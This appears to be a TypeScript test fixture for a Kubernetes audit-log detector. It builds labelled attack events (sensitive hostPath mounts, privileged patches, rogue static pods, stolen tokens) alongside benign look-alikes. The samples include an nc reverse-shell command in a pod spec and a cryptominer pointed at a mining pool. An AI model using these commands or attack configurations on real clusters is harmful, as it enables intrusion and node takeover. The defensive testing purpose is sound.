// Test material: workload and node attacks the real capture does not contain, and their benign look-alikes, as audit events shaped like its v1.26 lines.
import { identities, req, type Raw } from './attack-cases.ts';

/**
 * One labelled action: `gt` is its ground-truth category (the real capture's names); without it, a benign look-alike.
 * `rule`: the rule an attack must raise, or a look-alike must not (the rule's positive and near miss).
 */
export interface WorkloadCase { gt?: string; rule?: string; what: string; event: Raw }

/** The kaudit category each ground-truth category of these cases counts in (as CATEGORY_MAP of system-rules.test.ts). */
export const KAUDIT_CATEGORY: Record<string, string> = {
  sensitive_mount: 'sensitive-mount', suspicious_container: 'suspicious-container', privileged_patch: 'suspicious-container', static_pod: 'static-pod',
  command_execution: 'command-execution', port_forward: 'command-execution', nodeport_service: 'exposure', suspicious_cronjob: 'abnormal-cronjob',
};

type Kind = 'Pod' | 'Deployment' | 'DaemonSet' | 'StatefulSet' | 'ReplicaSet' | 'ReplicationController' | 'Job' | 'CronJob' | 'PodTemplate';
const RESOURCE: Record<Kind, string> = {
  Pod: 'pods', Deployment: 'deployments', DaemonSet: 'daemonsets', StatefulSet: 'statefulsets', ReplicaSet: 'replicasets',
  ReplicationController: 'replicationcontrollers', Job: 'jobs', CronJob: 'cronjobs', PodTemplate: 'podtemplates',
};
const API_VERSION: Record<Kind, string> = {
  Pod: 'v1', ReplicationController: 'v1', PodTemplate: 'v1', Job: 'batch/v1', CronJob: 'batch/v1',
  Deployment: 'apps/v1', DaemonSet: 'apps/v1', StatefulSet: 'apps/v1', ReplicaSet: 'apps/v1',
};

/** The whole object of `kind` whose pod (or pod template) spec is `spec`, with one nginx container unless `spec` names its own. */
export function objectOf(kind: Kind, name: string, ns: string, spec: Raw, meta: Raw = {}): Raw {
  const pod = { containers: [{ name: 'app', image: 'docker.io/library/nginx:1.25' }], ...spec };
  const metadata = { name, namespace: ns, ...meta };
  const template = { metadata: { labels: { app: name } }, spec: pod };
  const head = { kind, apiVersion: API_VERSION[kind], metadata };
  switch (kind) {
    case 'Pod': return { ...head, spec: pod };
    case 'PodTemplate': return { ...head, template };
    case 'Job': return { ...head, spec: { template: { spec: { restartPolicy: 'Never', ...pod } } } };
    case 'CronJob': return { ...head, spec: { schedule: '0 3 * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'Never', ...pod } } } } } };
    default: return { ...head, spec: { selector: { matchLabels: { app: name } }, template } };
  }
}

interface Write { body?: unknown; response?: unknown; code?: number; level?: 'RequestResponse' | 'Request' | 'Metadata'; query?: string; message?: string; sub?: string }

/** A write of `verb` on `resource`, logged at `level` (Request drops the response, Metadata both bodies), refused with `message` when given. */
export function write(verb: string, resource: string, ns: string | undefined, name: string, o: Write = {}): Raw {
  const level = o.level ?? 'RequestResponse';
  const e = req(verb, resource, { ns, name, body: o.body, response: o.response, code: o.code, level, query: o.query, sub: o.sub });
  if (level !== 'RequestResponse') e.responseObject = undefined;
  if (level === 'Metadata') e.requestObject = undefined;
  if (o.message !== undefined) e.responseStatus = { ...(e.responseStatus as Raw), message: o.message };
  return e;
}

/** A create of the whole `kind` object. */
export const create = (kind: Kind, name: string, ns: string, spec: Raw, o: Write = {}, meta: Raw = {}): Raw =>
  write('create', RESOURCE[kind], ns, name, { body: objectOf(kind, name, ns, spec, meta), ...o });

/** A PodSecurity denial: allowed by RBAC, refused by admission, with the check that failed. */
const podSecurity = (what: string): Write => ({ code: 403, message: `pods "x" is forbidden: violates PodSecurity "baseline:latest": ${what}` });
const psAllowed = { annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': 'RBAC: allowed by ClusterRoleBinding "ops-edit" of ClusterRole "edit" to Group "oidc:platform"', 'pod-security.kubernetes.io/enforce-policy': 'baseline:latest' } };

/** exec, attach or port-forward on a pod: SPDY `create` or websocket `get`, the options in the query string. */
function stream(sub: 'exec' | 'attach' | 'portforward', pod: string, ns: string, query: string, verb: string, code: number, level: 'Request' | 'Metadata' = 'Request'): Raw {
  return write(verb, 'pods', ns, pod, { sub, query, code, level });
}
const cmd = (command: string) => `${command.split(' ').map((c) => `command=${encodeURIComponent(c)}`).join('&')}&container=app&stdin=true&stdout=true&tty=true`;

/** A request through the API server's proxy to a node's kubelet, a pod port or a service port. */
function proxy(resource: 'nodes' | 'pods' | 'services', name: string, ns: string | undefined, rest: string, verb: string, code: number): Raw {
  const uri = `/api/v1${ns ? `/namespaces/${ns}` : ''}/${resource}/${name}/proxy/${rest}`;
  return { ...write(verb, resource, ns, name, { sub: 'proxy', code, level: 'Metadata' }), requestURI: uri };
}

// ---- identities beyond the capture's: people signed in through OIDC, cluster installers' and managed clusters' admins, tokens used elsewhere
const { mallory, podToken, ci, anonymous, node1, controller } = identities;
const oidc = { user: { username: 'oidc:alice@corp.example', groups: ['oidc:platform', 'system:authenticated'] }, sourceIPs: ['10.20.4.31'], userAgent: 'kubectl/v1.29.3 (darwin/arm64) kubernetes/6813625' };
const kubeAdmin = { user: { username: 'kubernetes-admin', groups: ['kubeadm:cluster-admins', 'system:authenticated'] }, sourceIPs: ['192.168.7.20'] };
const eksAdmin = { user: { username: 'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Admin_1a2b/jane', uid: 'aws-iam-authenticator:111122223333:AROAEXAMPLE', groups: ['system:authenticated'] }, sourceIPs: ['198.51.100.14'] };
const aksAdmin = { user: { username: 'masterclient', groups: ['system:masters', 'system:authenticated'] }, sourceIPs: ['52.160.41.7', '10.224.0.4'] };
const stolenOutside = { ...podToken, user: { ...podToken.user, extra: { 'authentication.kubernetes.io/pod-name': ['report-gen-d7d67cfb6-tbqjw'], 'authentication.kubernetes.io/pod-uid': ['0b1f6a2c-5a7e-4f43-9d51-2d6f0e1b7c11'] } }, sourceIPs: ['203.0.113.50'], userAgent: 'kubectl/v1.26.1 (linux/amd64) kubernetes/8f94681' };
const stolenNode = { user: { username: 'system:node:node-2', groups: ['system:nodes', 'system:authenticated'] }, sourceIPs: ['127.0.0.143'], userAgent: 'kubectl/v1.26.1 (linux/amd64) kubernetes/8f94681' };
const invalidToken = { user: {}, stage: 'ResponseStarted', sourceIPs: ['127.0.0.214'], userAgent: 'Go-http-client/2.0', annotations: undefined };
const sa = (ns: string, name: string, ua = `${name}/v1.4.2 (linux/amd64) kubernetes/$Format`) => ({ user: { username: `system:serviceaccount:${ns}:${name}`, groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'] }, sourceIPs: ['10.244.2.9'], userAgent: ua });
const dev = { user: { username: 'dana@corp.example', groups: ['dev-payments', 'system:authenticated'] }, sourceIPs: ['127.0.0.12'] };

const hostPath = (path: string, name = 'host', type?: string) => ({ volumes: [{ name, hostPath: { path, ...(type ? { type } : {}) } }], containers: [{ name: 'app', image: 'docker.io/library/busybox:1.36', command: ['sleep', '3600'], volumeMounts: [{ name, mountPath: '/host' }] }] });
const securityContext = (sc: Raw, image = 'docker.io/library/busybox:1.36') => ({ containers: [{ name: 'app', image, command: ['sleep', '3600'], securityContext: sc }] });
const shell = (script: string, image = 'docker.io/library/alpine:3.19') => ({ containers: [{ name: 'job', image, command: ['/bin/sh', '-c'], args: [script] }] });
const ssa = 'fieldManager=kubectl&fieldValidation=Strict&force=true';
const service = (name: string, ns: string, spec: Raw) => ({ kind: 'Service', apiVersion: 'v1', metadata: { name, namespace: ns }, spec: { selector: { app: name }, ports: [{ port: 5432, targetPort: 5432, protocol: 'TCP' }], ...spec } });
const persistentVolume = (name: string, source: Raw) => ({ kind: 'PersistentVolume', apiVersion: 'v1', metadata: { name }, spec: { capacity: { storage: '10Gi' }, accessModes: ['ReadWriteOnce'], persistentVolumeReclaimPolicy: 'Retain', storageClassName: 'manual', ...source } });
const debugNodePod = (node: string) => ({ nodeName: node, hostPID: true, hostIPC: true, hostNetwork: true, restartPolicy: 'Never', tolerations: [{ operator: 'Exists' }],
  volumes: [{ name: 'host-root', hostPath: { path: '/' } }], containers: [{ name: 'debugger', image: 'docker.io/library/busybox:1.36', stdin: true, tty: true, volumeMounts: [{ name: 'host-root', mountPath: '/host' }] }] });
/** A CronJob object on `schedule` (with `extra` in its spec, such as suspend), its job's pod spec `pod`. */
const cronJob = (name: string, ns: string, schedule: string, pod: Raw, extra: Raw = {}): Raw => {
  const o = objectOf('CronJob', name, ns, pod);
  return { ...o, spec: { ...(o.spec as Raw), schedule, ...extra } };
};
const cronJobV1beta1 = (e: Raw): Raw => ({ ...e, requestURI: (e.requestURI as string).replace('/batch/v1/', '/batch/v1beta1/'), objectRef: { ...(e.objectRef as Raw), apiVersion: 'v1beta1' } });

export const WORKLOAD_CASES: WorkloadCase[] = [
  // ---------------------------------------------------------------- sensitive_mount
  { gt: 'sensitive_mount', what: 'a StatefulSet mounting the kubelet\'s data, by a person signed in through OIDC', event: { ...oidc, ...create('StatefulSet', 'cache', 'payments', hostPath('/var/lib/kubelet')) } },
  { gt: 'sensitive_mount', what: 'a Job mounting /root, by a pod token used from outside', event: { ...stolenOutside, ...create('Job', 'backup', 'payments', hostPath('/root')) } },
  { gt: 'sensitive_mount', what: 'a PodTemplate holding the host\'s root', event: { ...mallory, ...create('PodTemplate', 'tpl', 'payments', hostPath('/')) } },
  { gt: 'sensitive_mount', rule: 'KA-MOUNT-007', what: 'a PersistentVolume of type hostPath on the host\'s root', event: { ...mallory, ...write('create', 'persistentvolumes', undefined, 'pv-root', { body: persistentVolume('pv-root', { hostPath: { path: '/', type: 'Directory' } }) }) } },
  { gt: 'sensitive_mount', what: 'a local PersistentVolume on /etc/kubernetes, at level Request', event: { ...kubeAdmin, ...write('create', 'persistentvolumes', undefined, 'pv-kube', { level: 'Request', body: persistentVolume('pv-kube', { local: { path: '/etc/kubernetes' }, nodeAffinity: { required: { nodeSelectorTerms: [{ matchExpressions: [{ key: 'kubernetes.io/hostname', operator: 'In', values: ['cp-1'] }] }] } } }) }) } },
  { gt: 'sensitive_mount', what: 'a JSON patch adding the Docker socket to a Deployment', event: { ...mallory, ...write('patch', 'deployments', 'storefront', 'cart', { level: 'Request', body: [{ op: 'add', path: '/spec/template/spec/volumes/-', value: { name: 'sock', hostPath: { path: '/var/run/docker.sock', type: 'Socket' } } }] }) } },
  { gt: 'sensitive_mount', what: 'a JSON patch pointing an existing hostPath volume at /etc', event: { ...mallory, ...write('patch', 'daemonsets', 'observability', 'grafana-agent', { level: 'Request', body: [{ op: 'replace', path: '/spec/template/spec/volumes/0/hostPath/path', value: '/etc' }] }) } },
  { gt: 'sensitive_mount', what: 'a merge patch of a DaemonSet adding /proc, at level Request', event: { ...eksAdmin, ...write('patch', 'daemonsets', 'default', 'agent', { level: 'Request', body: { spec: { template: { spec: { volumes: [{ name: 'proc', hostPath: { path: '/proc' } }] } } } } }) } },
  { gt: 'sensitive_mount', what: 'a server-side apply creating a pod with the podman socket', event: { ...oidc, ...write('patch', 'pods', 'payments', 'builder', { code: 201, query: ssa, body: objectOf('Pod', 'builder', 'payments', hostPath('/run/podman/podman.sock', 'sock', 'Socket')) }) } },
  { gt: 'sensitive_mount', what: 'an update (PUT) of a ReplicaSet mounting the k3s containerd socket', event: { ...aksAdmin, ...write('update', 'replicasets', 'payments', 'api-7d9f', { level: 'Request', body: objectOf('ReplicaSet', 'api-7d9f', 'payments', hostPath('/run/k3s/containerd/containerd.sock')) }) } },
  { gt: 'sensitive_mount', what: 'a pod with a hostPath refused by PodSecurity, logged at Metadata', event: { ...oidc, ...psAllowed, ...create('Pod', 'etcd-copy', 'pci', hostPath('/var/lib/etcd'), { level: 'Metadata', ...podSecurity('hostPath volumes (volume "host")') }) } },
  { gt: 'sensitive_mount', what: 'a pod with /dev refused by validation (422)', event: { ...mallory, ...create('Pod', 'dev', 'payments', { ...hostPath('/dev'), containers: [] }, { level: 'Request', code: 422, message: 'Pod "dev" is invalid: spec.containers: Required value' }) } },
  { gt: 'sensitive_mount', what: 'a ReplicationController mounting /var/lib/docker by the kubeadm admin', event: { ...kubeAdmin, ...create('ReplicationController', 'rc', 'default', hostPath('/var/lib/docker/')) } },
  { gt: 'sensitive_mount', what: 'a hostPath climbing out of /var/log with ..', event: { ...podToken, ...create('Deployment', 'logs', 'payments', hostPath('/var/log/../../etc')) } },
  // benign look-alikes
  { what: 'a log shipper DaemonSet by its Helm service account, /var/log/pods read-only', event: { ...sa('observability', 'helm-deployer'), ...create('DaemonSet', 'fluent-bit', 'observability', { volumes: [{ name: 'pods', hostPath: { path: '/var/log/pods' } }], containers: [{ name: 'fb', image: 'cr.fluentbit.io/fluent/fluent-bit:2.2', volumeMounts: [{ name: 'pods', mountPath: '/var/log/pods', readOnly: true }] }] }) } },
  { what: 'the DaemonSet controller creating a node-exporter pod with the root mounted', event: { ...controller('daemon-set-controller'), ...create('Pod', 'node-exporter-x7k2p', 'monitoring', hostPath('/')) } },
  { what: 'a kubelet\'s mirror pod of the API server with its PKI mounted', event: { ...node1, ...create('Pod', 'kube-apiserver-node-1', 'kube-system', { nodeName: 'node-1', ...hostPath('/etc/kubernetes/pki') }, {}, { annotations: { 'kubernetes.io/config.mirror': '4c1a' } }) } },
  { what: 'a label patch of a Deployment that already mounts the Docker socket', event: { ...dev, ...write('patch', 'deployments', 'payments', 'builder', { body: { metadata: { labels: { team: 'payments' } } }, response: objectOf('Deployment', 'builder', 'payments', hostPath('/var/run/docker.sock')) }) } },
  { rule: 'KA-MOUNT-007', what: 'the local volume provisioner creating a PersistentVolume on /mnt/disks', event: { ...sa('kube-storage', 'local-volume-provisioner'), ...write('create', 'persistentvolumes', undefined, 'local-pv-3f2a', { body: persistentVolume('local-pv-3f2a', { local: { path: '/mnt/disks/ssd1' } }) }) } },
  { what: 'a developer\'s Deployment with an emptyDir and a ConfigMap volume', event: { ...dev, ...create('Deployment', 'ledger-api', 'payments', { volumes: [{ name: 'tmp', emptyDir: {} }, { name: 'conf', configMap: { name: 'ledger' } }] }) } },
  { what: 'a developer\'s StatefulSet scale by JSON patch', event: { ...dev, ...write('patch', 'statefulsets', 'payments', 'ledger-db', { body: [{ op: 'replace', path: '/spec/replicas', value: 3 }] }) } },

  // ---------------------------------------------------------------- suspicious_container
  { gt: 'suspicious_container', what: 'a StatefulSet adding SYS_ADMIN, replaced by PUT', event: { ...oidc, ...write('update', 'statefulsets', 'payments', 'ledger-db', { body: objectOf('StatefulSet', 'ledger-db', 'payments', securityContext({ capabilities: { add: ['SYS_ADMIN'] } })) }) } },
  { gt: 'suspicious_container', what: 'a privileged ReplicaSet by a pod token used from outside', event: { ...stolenOutside, ...create('ReplicaSet', 'rs-helper', 'payments', securityContext({ privileged: true })) } },
  { gt: 'suspicious_container', what: 'a Job adding the BPF capability in lower case', event: { ...mallory, ...create('Job', 'probe', 'payments', securityContext({ capabilities: { add: ['bpf'] } })) } },
  { gt: 'suspicious_container', what: 'kubectl debug adding an ephemeral container by strategic-merge patch', event: { ...oidc, ...write('patch', 'pods', 'payments', 'ledger-api-5c7d-x2', { sub: 'ephemeralcontainers', level: 'Request', body: { spec: { ephemeralContainers: [{ name: 'debugger-7t2qk', image: 'docker.io/library/busybox:1.36', stdin: true, tty: true, targetContainerName: 'app' }] } } }) } },
  { gt: 'suspicious_container', what: 'the pod kubectl debug node/… creates', event: { ...oidc, ...create('Pod', 'node-debugger-node-1-k2x7s', 'default', debugNodePod('node-1')) } },
  { gt: 'suspicious_container', what: 'a merge patch allowing privilege escalation, at level Request', event: { ...mallory, ...write('patch', 'deployments', 'storefront', 'cart', { level: 'Request', body: { spec: { template: { spec: { containers: [{ name: 'cart', securityContext: { allowPrivilegeEscalation: true } }] } } } } }) } },
  { gt: 'suspicious_container', what: 'a miner given by its pool arguments in an innocent image', event: { ...stolenOutside, ...create('Deployment', 'worker', 'payments', { containers: [{ name: 'w', image: 'docker.io/library/ubuntu:22.04', command: ['/opt/w'], args: ['--algo', 'rx/0', '-o', 'pool.supportxmr.com:443', '-u', '44AFFq5kSiGBoZ', '--tls'] }] }) } },
  { gt: 'suspicious_container', rule: 'KA-CONT-020', what: 'a DaemonSet running as root with an unmasked /proc, by a CI token', event: { ...ci, ...create('DaemonSet', 'node-tuner', 'ci', { securityContext: { runAsUser: 0 }, containers: [{ name: 't', image: 'docker.io/library/busybox:1.36', securityContext: { procMount: 'Unmasked' } }] }) } },
  { gt: 'suspicious_container', what: 'a pod template with the AppArmor annotation unconfined', event: { ...mallory, ...write('create', 'deployments', 'payments', 'api', { level: 'Request', body: { kind: 'Deployment', apiVersion: 'apps/v1', metadata: { name: 'api', namespace: 'payments' }, spec: { selector: { matchLabels: { app: 'api' } }, template: { metadata: { annotations: { 'container.apparmor.security.beta.kubernetes.io/app': 'unconfined' } }, spec: { containers: [{ name: 'app', image: 'docker.io/library/nginx:1.25' }] } } } } }) } },
  { gt: 'suspicious_container', what: 'a Deployment create refused by RBAC, logged at Metadata', event: { ...mallory, ...create('Deployment', 'x', 'kube-system', {}, { level: 'Metadata', code: 403 }) } },
  { gt: 'suspicious_container', what: 'a privileged pod refused by PodSecurity, logged at Metadata', event: { ...oidc, ...psAllowed, ...create('Pod', 'priv', 'pci', {}, { level: 'Metadata', ...podSecurity('privileged (container "app" must not set securityContext.privileged=true)') }) } },
  { gt: 'suspicious_container', rule: 'KA-CONT-021', what: 'an attack-tool image (peirates)', event: { ...stolenOutside, ...create('Pod', 'tools', 'payments', { containers: [{ name: 't', image: 'docker.io/devsecfranklin/peirates:1.1.13', stdin: true }] }) } },
  { gt: 'suspicious_container', what: 'a JSON patch adding hostIPC to a StatefulSet', event: { ...eksAdmin, ...write('patch', 'statefulsets', 'payments', 'ledger-db', { level: 'Request', body: [{ op: 'add', path: '/spec/template/spec/hostIPC', value: true }] }) } },
  { gt: 'suspicious_container', what: 'a pod with a reverse shell through nc', event: { ...podToken, ...create('Pod', 'x', 'payments', shell('nc 203.0.113.9 4444 -e /bin/sh')) } },
  { gt: 'suspicious_container', what: 'a Windows host-process container (privileged on Windows nodes)', event: { ...oidc, ...create('DaemonSet', 'win-agent', 'payments', { nodeSelector: { 'kubernetes.io/os': 'windows' }, securityContext: { windowsOptions: { hostProcess: true, runAsUserName: 'NT AUTHORITY\\SYSTEM' } }, containers: [{ name: 'a', image: 'mcr.microsoft.com/windows/nanoserver:ltsc2022' }] }) } },
  { gt: 'suspicious_container', what: 'a JSON patch turning seccomp off, at level Request', event: { ...mallory, ...write('patch', 'deployments', 'storefront', 'cart', { level: 'Request', body: [{ op: 'add', path: '/spec/template/spec/securityContext/seccompProfile', value: { type: 'Unconfined' } }] }) } },
  // benign look-alikes
  { what: 'the ReplicaSet controller creating a pod of a privileged CNI DaemonSet', event: { ...controller('daemon-set-controller'), ...create('Pod', 'calico-node-x2', 'kube-system', { hostNetwork: true, ...securityContext({ privileged: true }) }) } },
  { rule: 'KA-CONT-020', what: 'a developer\'s Deployment hardened (non-root, no escalation, RuntimeDefault)', event: { ...dev, ...create('Deployment', 'ledger-api', 'payments', { securityContext: { runAsNonRoot: true, runAsUser: 10001, seccompProfile: { type: 'RuntimeDefault' } }, containers: [{ name: 'app', image: 'ghcr.io/corp/ledger-api:1.8.2', securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } } }] }) } },
  { what: 'a kubelet patching its pod\'s status', event: { ...node1, ...write('patch', 'pods', 'payments', 'ledger-api-5c7d-x2', { sub: 'status', level: 'Request', body: { status: { phase: 'Running' } } }) } },
  { what: 'a developer dropping NET_RAW by JSON patch', event: { ...dev, ...write('patch', 'deployments', 'payments', 'ledger-api', { body: [{ op: 'add', path: '/spec/template/spec/containers/0/securityContext/capabilities/drop/-', value: 'NET_RAW' }] }) } },
  { what: 'a developer\'s image bump by strategic-merge patch of a privileged Deployment', event: { ...dev, ...write('patch', 'deployments', 'payments', 'ledger-agent', { body: { spec: { template: { spec: { containers: [{ name: 'app', image: 'ghcr.io/corp/agent:2.1' }] } } } }, response: objectOf('Deployment', 'ledger-agent', 'payments', securityContext({ privileged: true })) }) } },
  { rule: 'KA-CONT-021', what: 'a CI job running a curl health check', event: { ...ci, ...create('Job', 'smoke', 'ci', shell('curl -fsS http://web.storefront.svc/healthz')) } },

  // ---------------------------------------------------------------- privileged_patch
  { gt: 'privileged_patch', what: 'a JSON patch replacing a container\'s securityContext with privileged', event: { ...mallory, ...write('patch', 'statefulsets', 'payments', 'ledger-db', { level: 'Request', body: [{ op: 'replace', path: '/spec/template/spec/containers/0/securityContext', value: { privileged: true } }] }) } },
  { gt: 'privileged_patch', what: 'a JSON patch setting privileged true by its own path', event: { ...oidc, ...write('patch', 'deployments', 'storefront', 'cart', { level: 'Request', body: [{ op: 'add', path: '/spec/template/spec/containers/0/securityContext/privileged', value: true }] }) } },
  { gt: 'privileged_patch', what: 'a JSON patch adding SYS_PTRACE to a capability list', event: { ...stolenOutside, ...write('patch', 'deployments', 'payments', 'report-gen', { level: 'Request', body: [{ op: 'add', path: '/spec/template/spec/containers/0/securityContext/capabilities/add/-', value: 'SYS_PTRACE' }] }) } },
  { gt: 'privileged_patch', what: 'a strategic-merge patch of a CronJob\'s job template adding hostPID', event: { ...mallory, ...write('patch', 'cronjobs', 'payments', 'ledger-reconcile', { body: { spec: { jobTemplate: { spec: { template: { spec: { hostPID: true } } } } } }, response: objectOf('CronJob', 'ledger-reconcile', 'payments', { hostPID: true }) }) } },
  { gt: 'privileged_patch', what: 'an update (PUT) of a Deployment to privileged, at level Request', event: { ...kubeAdmin, ...write('update', 'deployments', 'storefront', 'catalog', { level: 'Request', body: objectOf('Deployment', 'catalog', 'storefront', securityContext({ privileged: true })) }) } },
  { gt: 'privileged_patch', what: 'a server-side apply of a privileged DaemonSet', event: { ...eksAdmin, ...write('patch', 'daemonsets', 'observability', 'grafana-agent', { level: 'Request', query: ssa, body: objectOf('DaemonSet', 'grafana-agent', 'observability', securityContext({ privileged: true })) }) } },
  { gt: 'privileged_patch', what: 'a JSON patch of pods/ephemeralcontainers adding a privileged debugger', event: { ...mallory, ...write('patch', 'pods', 'storefront', 'catalog-6b7c-z9', { sub: 'ephemeralcontainers', level: 'Request', body: [{ op: 'add', path: '/spec/ephemeralContainers/-', value: { name: 'dbg', image: 'docker.io/library/busybox:1.36', securityContext: { privileged: true } } }] }) } },
  { gt: 'privileged_patch', what: 'a strategic-merge patch of a ReplicationController adding ALL capabilities', event: { ...aksAdmin, ...write('patch', 'replicationcontrollers', 'default', 'legacy', { level: 'Request', body: { spec: { template: { spec: { containers: [{ name: 'app', securityContext: { capabilities: { add: ['ALL'] } } }] } } } } }) } },
  { gt: 'privileged_patch', what: 'a JSON patch of a running pod to privileged, refused (422, pod spec immutable)', event: { ...mallory, ...write('patch', 'pods', 'payments', 'ledger-api-5c7d-x2', { level: 'Request', code: 422, message: 'Pod "ledger-api-5c7d-x2" is invalid: spec: Forbidden: pod updates may not change fields other than `spec.containers[*].image`', body: [{ op: 'add', path: '/spec/containers/0/securityContext/privileged', value: true }] }) } },
  { gt: 'privileged_patch', what: 'a privileged patch refused by RBAC, with its body', event: { ...mallory, ...write('patch', 'daemonsets', 'observability', 'grafana-agent', { level: 'Request', code: 403, body: { spec: { template: { spec: { hostNetwork: true, containers: [{ name: 'agent', securityContext: { privileged: true } }] } } } } }) } },
  { gt: 'privileged_patch', what: 'a workload patch refused by RBAC, logged at Metadata', event: { ...stolenOutside, ...write('patch', 'deployments', 'storefront', 'cart', { level: 'Metadata', code: 403 }) } },
  { gt: 'privileged_patch', what: 'a JSON patch replacing a Deployment\'s whole spec with a privileged template', event: { ...mallory, ...write('patch', 'deployments', 'storefront', 'cart', { level: 'Request', body: [{ op: 'replace', path: '/spec', value: (objectOf('Deployment', 'cart', 'storefront', securityContext({ privileged: true })) as { spec: Raw }).spec }] }) } },
  { gt: 'privileged_patch', what: 'a JSON patch making a Windows container a host process', event: { ...mallory, ...write('patch', 'daemonsets', 'payments', 'win-agent', { level: 'Request', body: [{ op: 'add', path: '/spec/template/spec/securityContext/windowsOptions/hostProcess', value: true }] }) } },
  // benign look-alikes
  { what: 'a hardening JSON patch: privileged off, read-only root filesystem on', event: { ...dev, ...write('patch', 'deployments', 'payments', 'ledger-api', { level: 'Request', body: [{ op: 'replace', path: '/spec/template/spec/containers/0/securityContext/privileged', value: false }, { op: 'add', path: '/spec/template/spec/containers/0/securityContext/readOnlyRootFilesystem', value: true }] }) } },
  { what: 'kubectl rollout restart (annotation patch) of a Deployment', event: { ...dev, ...write('patch', 'deployments', 'payments', 'ledger-api', { body: { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-22T12:30:00Z' } } } } } }) } },
  { what: 'the deployment controller updating a privileged Deployment\'s status', event: { ...controller('deployment-controller'), ...write('update', 'deployments', 'observability', 'agent', { sub: 'status', body: objectOf('Deployment', 'agent', 'observability', securityContext({ privileged: true })) }) } },
  { what: 'a JSON patch setting privileged false', event: { ...dev, ...write('patch', 'deployments', 'payments', 'ledger-api', { body: [{ op: 'replace', path: '/spec/template/spec/containers/0/securityContext/privileged', value: false }] }) } },
  { what: 'a CI deployer\'s image bump by JSON patch', event: { ...ci, ...write('patch', 'deployments', 'ci', 'web', { body: [{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'ghcr.io/corp/web:2.4.1' }] }) } },
  { what: 'a developer\'s patch refused for a conflict (409)', event: { ...dev, ...write('patch', 'deployments', 'payments', 'ledger-api', { code: 409, body: { spec: { replicas: 2 } } }) } },

  // ---------------------------------------------------------------- static_pod
  { gt: 'static_pod', what: 'the kubeadm admin creating a mirror-annotated pod in an application namespace', event: { ...kubeAdmin, ...create('Pod', 'etcd-backup-cp-1', 'payments', { nodeName: 'cp-1' }, {}, { annotations: { 'kubernetes.io/config.mirror': '9c1d3e' } }) } },
  { gt: 'static_pod', what: 'a person signed in through OIDC creating a pod pinned to a node', event: { ...oidc, ...create('Pod', 'pinned', 'payments', { nodeName: 'cp-1' }) } },
  { gt: 'static_pod', rule: 'KA-STATIC-008', what: 'a Deployment whose template is pinned to a node, by a pod token used from outside', event: { ...stolenOutside, ...create('Deployment', 'pinned', 'payments', { nodeName: 'cp-1' }) } },
  { gt: 'static_pod', what: 'a pinned pod at level Request', event: { ...eksAdmin, ...create('Pod', 'pinned', 'default', { nodeName: 'ip-10-0-1-17.ec2.internal' }, { level: 'Request' }) } },
  { gt: 'static_pod', what: 'a server-side apply creating a mirror-annotated pod', event: { ...mallory, ...write('patch', 'pods', 'kube-system', 'kube-controller-manager-node-2', { code: 201, query: ssa, body: objectOf('Pod', 'kube-controller-manager-node-2', 'kube-system', { nodeName: 'node-2' }, { annotations: { 'kubernetes.io/config.mirror': 'f00d' } }) }) } },
  { gt: 'static_pod', what: 'the pod kubectl debug node/… creates, pinned to the node', event: { ...aksAdmin, ...create('Pod', 'node-debugger-aks-nodepool1-1-x8k2', 'default', debugNodePod('aks-nodepool1-1')) } },
  { gt: 'static_pod', what: 'a stolen node credential creating an unknown mirror pod in kube-system', event: { ...stolenNode, ...create('Pod', 'metrics-sidecar-node-2', 'kube-system', { nodeName: 'node-2' }, {}, { annotations: { 'kubernetes.io/config.mirror': 'beef' } }) } },
  { gt: 'static_pod', rule: 'KA-STATIC-010', what: 'a stolen node credential\'s mirror pod from outside the cluster networks', event: { ...stolenNode, sourceIPs: ['198.51.100.77'], ...create('Pod', 'kube-proxy-node-2', 'kube-system', { nodeName: 'node-2' }, {}, { annotations: { 'kubernetes.io/config.mirror': 'cafe' } }) } },
  { gt: 'static_pod', what: 'a node credential refused (NodeRestriction) creating a pod, at Metadata', event: { ...stolenNode, ...create('Pod', 'x', 'default', {}, { level: 'Metadata', code: 403, message: 'pods "x" is forbidden: pod does not have "kubernetes.io/config.mirror" annotation, node "node-2" can only create mirror pods' }) } },
  { gt: 'static_pod', rule: 'KA-STATIC-009', what: 'a pinned pod refused by RBAC, with its body', event: { ...mallory, ...create('Pod', 'pinned', 'kube-system', { nodeName: 'cp-1' }, { level: 'Request', code: 403 }) } },
  { gt: 'static_pod', what: 'a JSON patch pinning a Deployment\'s template to a node', event: { ...mallory, ...write('patch', 'deployments', 'storefront', 'cart', { level: 'Request', body: [{ op: 'add', path: '/spec/template/spec/nodeName', value: 'cp-1' }] }) } },
  { gt: 'static_pod', what: 'a node credential creating a mirror pod bound to another node', event: { ...stolenNode, ...create('Pod', 'kube-proxy-node-1', 'kube-system', { nodeName: 'node-1' }, {}, { annotations: { 'kubernetes.io/config.mirror': 'abcd' } }) } },
  // benign look-alikes
  { what: 'a kubelet\'s mirror pod of its kube-proxy', event: { ...node1, ...create('Pod', 'kube-proxy-node-1', 'kube-system', { nodeName: 'node-1', hostNetwork: true }, {}, { annotations: { 'kubernetes.io/config.mirror': '71b2' } }) } },
  { what: 'the scheduler binding a pod to a node', event: { user: { username: 'system:kube-scheduler', groups: ['system:authenticated'] }, sourceIPs: ['127.0.0.1'], userAgent: 'kube-scheduler/v1.26.1 (linux/amd64) kubernetes/8f94681/scheduler', ...write('create', 'pods', 'payments', 'ledger-api-5c7d-x2', { sub: 'binding', body: { kind: 'Binding', apiVersion: 'v1', metadata: { name: 'ledger-api-5c7d-x2' }, target: { kind: 'Node', name: 'node-1' } } }) } },
  { rule: 'KA-STATIC-008', what: 'a developer\'s Deployment with a nodeSelector', event: { ...dev, ...create('Deployment', 'ledger-api', 'payments', { nodeSelector: { 'kubernetes.io/hostname': 'node-1' } }) } },
  { rule: 'KA-STATIC-010', what: 'a kubelet deleting its own terminated pod', event: { ...node1, ...write('delete', 'pods', 'payments', 'ledger-api-5c7d-x2', { level: 'Request', body: { kind: 'DeleteOptions', apiVersion: 'v1', gracePeriodSeconds: 0, preconditions: { uid: '0b1f' } } }) } },
